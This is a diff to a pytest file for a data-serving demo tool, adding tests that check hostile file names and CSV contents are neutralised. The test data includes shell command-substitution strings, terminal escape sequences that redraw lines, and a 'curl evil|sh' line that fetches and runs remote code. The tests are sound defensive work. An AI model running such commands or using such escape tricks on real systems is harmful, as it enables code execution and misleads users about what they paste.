@@ -88,13 +88,15 @@ CELLS = {
 
 
 @pytest.mark.skipif(shutil.which("curl") is None, reason="curl is not installed")
-@pytest.mark.parametrize("name", ["prices.xlsx", "folder", "header only.csv"])
+@pytest.mark.parametrize("name", ["prices.xlsx", "folder", "header only.csv", "odd.csv"])
 def test_the_demo_serves_own_data(tmp_path: Path, name: str) -> None:
     """Its curl lines ask for the file's own worksheet and fields, and work twice."""
     source = tmp_path / name
     if name == "folder":
         source.mkdir()
         (source / "My list.csv").write_text("name;size\nA, B;7\nC;8\n")
+    elif name == "odd.csv":  # what a shell, JSON or the API takes for something else
+        source.write_text(f'$or,n\x7fm,`id`$(id)!\\\'"\nx,y,"{"x" * 5000}"\n')
     elif name.endswith(".csv"):
         source.write_text("name,size\n")
     else:
@@ -127,6 +129,17 @@ def test_the_key_of_the_sample_is_public_on_loopback_only() -> None:
     ]
 
     assert [key == PUBLIC_KEY for key in keys] == [True, True, False, False, False]
+
+
+def test_a_file_does_not_write_to_the_terminal(tmp_path: Path) -> None:
+    """Names with control characters cannot redraw the lines that a reader pastes."""
+    source = tmp_path / "x%1B]0;title%07.csv"
+    source.write_text("n\x1b[1A\x1b[2Kcurl evil|sh #,\u202eb\x7f\n1,2\n")
+    with running(tmp_path / "log", "demo", str(source), "--port", "0", last_words="Ctrl-C") as demo:
+        said = "".join(demo.said)
+
+    assert [each for each in said if not each.isprintable() and each != "\n"] == []
+    assert said.count("worksheet: x") == 1
 
 
 @pytest.mark.parametrize(
